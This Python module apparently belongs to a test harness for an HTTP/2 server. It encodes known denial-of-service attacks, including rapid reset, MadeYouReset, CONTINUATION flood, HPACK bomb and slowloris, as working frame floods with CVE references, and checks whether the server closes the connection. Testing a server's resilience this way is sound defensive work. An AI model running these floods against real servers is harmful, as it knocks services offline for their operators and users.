"""The attacks on an HTTP/2 server that are known by name, each as the frames it is made of.

CVE numbers: rapid reset 2023-44487; CONTINUATION 2024-27316 and 2024-28182; MadeYouReset 2025-8671;
PING, SETTINGS, RST_STREAM, empty frames, PRIORITY, empty header names 2019-9512, 9515, 9514, 9518,
9513, 9516; internal buffering 2019-9517; HPACK bomb 2016-1544.
"""

import dataclasses
import struct
import time

from hpack.hpack import encode_integer

import frames
from frames import (
    CONTINUATION,
    DATA,
    DESCRIBE,
    END_STREAM,
    LARGEST_WINDOW,
    OPENING,
    PADDED,
    PING,
    PRIORITY,
    UNKNOWN,
    Assailant,
    Credit,
    Numbered,
    Repeated,
    call_block,
    frame,
    headers,
    reset,
    settings,
    window_update,
)
from wire import PREFACE, framed

FRAME_BYTES = 16_384
# What the server's timers are set to, so that a second's wait shows them.
TIMER_SECONDS = 1
DRIBBLE_SECONDS = 0.2
# How long a server may take to close a connection when its timer has run out.
SLACK_SECONDS = 1.5


@dataclasses.dataclass
class Outcome:
    """What became of an attack."""

    closed: bool
    how: str
    units: int
    seconds: float


@dataclasses.dataclass
class Flood:
    """An attack that sends on one connection as fast as the server lets it."""

    units: object
    opening: bytes = OPENING
    reads: bool = True
    # The stream whose flow control is kept, where the attack spends windows.
    credit_of: int | None = None
    receive_buffer: int | None = None
    # Whether each buffer waits for an answer to the one before.
    in_step: bool = False
    # Seconds between buffers.
    pause: float = 0
    options: tuple = ()
    # Whether nothing but a closed connection will do.
    must_close: bool = False

    def run(self, port, seconds):
        begin = time.monotonic()
        with Assailant(port, self.opening, self.receive_buffer) as assailant:
            credit = Credit(self.credit_of) if self.credit_of else None
            assailant.flood(
                self.units, seconds, self.reads, credit, in_step=self.in_step, pause=self.pause
            )
            elapsed = time.monotonic() - begin
            units = assailant.sent // self.units.unit_bytes
            return Outcome(assailant.closed, self.describe(assailant), units, elapsed)

    @staticmethod
    def describe(assailant):
        if assailant.closed:
            assailant.read_on(1)
        said = "" if assailant.goaway is None else f"GOAWAY {assailant.goaway}, "
        return said + ("closed" if assailant.closed else "still open")


@dataclasses.dataclass
class Slow:
    """An attack that opens connections and says next to nothing: one byte now and then."""

    count: int
    opening: bytes
    # What is sent after the opening, a byte at a time.
    drops: bytes
    options: tuple
    must_close: bool = True

    def run(self, port, seconds):
        begin = time.monotonic()
        deadline = begin + max(seconds, TIMER_SECONDS + SLACK_SECONDS)
        everyone = [Assailant(port, self.opening) for _ in range(self.count)]
        dropped, sent = 0, 0
        while (now := time.monotonic()) < deadline and not all(a.closed for a in everyone):
            drop = self.drops[dropped : dropped + 1]
            for assailant in everyone:
                if drop and not assailant.closed:
                    sent += not assailant.send(memoryview(drop))
                assailant.glance()
            dropped += 1
            time.sleep(max(0, min(DRIBBLE_SECONDS, deadline - now)))
        left = sum(not assailant.closed for assailant in everyone)
        elapsed = time.monotonic() - begin
        for assailant in everyone:
            assailant.socket.close()
        return Outcome(left == 0, f"{left} of {self.count} still open", sent, elapsed)


def opens_and(fault, end=False):
    """A call is opened on each stream, and a fault follows that makes the server reset it."""
    block = call_block()
    return Numbered(lambda stream: headers(stream, block, end) + fault(stream))


def hpack_references(continuations):
    """A field of 4 KB is put into the dynamic table, and then named by one byte each time."""
    planted = b"\x40\1b" + bytes(encode_integer(4_000, 7)) + b"x" * 4_000
    reference = b"\xbe"  # Index 62, the newest entry.
    block = call_block()
    first = block + reference * (FRAME_BYTES - len(block))
    further = reference * FRAME_BYTES

    def unit(stream):
        made = headers(stream, first, end=True, whole=continuations == 0)
        for left in range(continuations, 0, -1):
            made += frame(CONTINUATION, frames.END_HEADERS if left == 1 else 0, stream, further)
        return made

    return Flood(Numbered(unit, first=3), OPENING + headers(1, block + planted, end=True))


def continuation(payload):
    return Flood(
        Repeated(frame(CONTINUATION, 0, 1, payload)),
        OPENING + headers(1, call_block(), whole=False),
    )


def on_an_open_call(unit, credit_of=None):
    return Flood(Repeated(unit), OPENING + headers(1, call_block()), credit_of=credit_of)


def many_answers(opening, count, **how):
    """Calls with a request of a few bytes and an answer of many."""
    block, request = call_block(DESCRIBE), framed(b"")

    def unit(stream):
        return headers(stream, block) + frame(DATA, END_STREAM, stream, request)

    return Flood(Numbered(unit, at_most=count), opening, **how)


def unfinished(stream):
    """A call whose only message is announced and does not come."""
    return headers(stream, call_block()) + frame(DATA, 0, stream, struct.pack(">BI", 0, 1_000))


TIMER = str(TIMER_SECONDS)
READY = OPENING + settings() + frame(frames.SETTINGS, frames.ACK)

ATTACKS = {
    "rapid_reset": Flood(opens_and(reset)),
    "rapid_reset_endstream": Flood(opens_and(reset, end=True)),
    "made_you_reset_wu0": Flood(opens_and(lambda stream: window_update(0, stream))),
    "made_you_reset_wu_overflow": Flood(
        opens_and(lambda stream: window_update(LARGEST_WINDOW, stream))
    ),
    "made_you_reset_data_after_end": Flood(
        opens_and(lambda stream: frame(DATA, 0, stream, b"late"), end=True)
    ),
    "made_you_reset_prio_len": Flood(
        opens_and(lambda stream: frame(PRIORITY, 0, stream, bytes(4)))
    ),
    "made_you_reset_prio_self": Flood(
        opens_and(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 15)))
    ),
    "continuation_flood": continuation((b"\0\1a\x3c" + b"v" * 60) * 256),
    "continuation_empty_flood": continuation(b""),
    "hpack_bomb": hpack_references(continuations=7),
    "zero_len_headers": Flood(
        Numbered(lambda stream: headers(stream, call_block() + b"\x40\0\0" * 5_000, end=True))
    ),
    "settings_flood": Flood(Repeated(settings()), reads=False),
    "ping_flood": Flood(Repeated(frame(PING, payload=b"attacker")), reads=False),
    "ping_flood_read": Flood(Repeated(frame(PING, payload=b"attacker"))),
    # A header block without a path: each is answered with a reset.
    "reset_flood": Flood(Numbered(lambda stream: headers(stream, b"\x82", end=True)), reads=False),
    "empty_data_flood": on_an_open_call(frame(DATA, 0, 1)),
    "padded_data_flood": on_an_open_call(frame(DATA, PADDED, 1, b"\0"), credit_of=1),
    "priority_flood": Flood(
        Numbered(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15)))
    ),
    "window_update_flood": Flood(Repeated(window_update(1))),
    "unknown_frame_flood": Flood(Repeated(frame(UNKNOWN, 0, 0, bytes(FRAME_BYTES)))),
    "stream_limit": Flood(Numbered(unfinished, at_most=20_000)),
    "zero_window": many_answers(PREFACE + settings(window=0), 2_000),
    "slow_read_tcp": many_answers(
        PREFACE + settings(window=LARGEST_WINDOW) + window_update(2**30),
        4_000,
        reads=False,
        receive_buffer=4_096,
    ),
    "slowloris_preface": Slow(200, PREFACE[:4], PREFACE[4:], ("--preface-timeout", TIMER)),
    # The header of a frame, and then its block a byte at a time.
    "slow_headers": Slow(
        10,
        READY + headers(1, call_block())[: frames.FRAME_HEADER_BYTES],
        call_block(),
        ("--header-timeout", TIMER),
    ),
    "idle_conn": Slow(10, READY, b"", ("--idle", TIMER)),
}
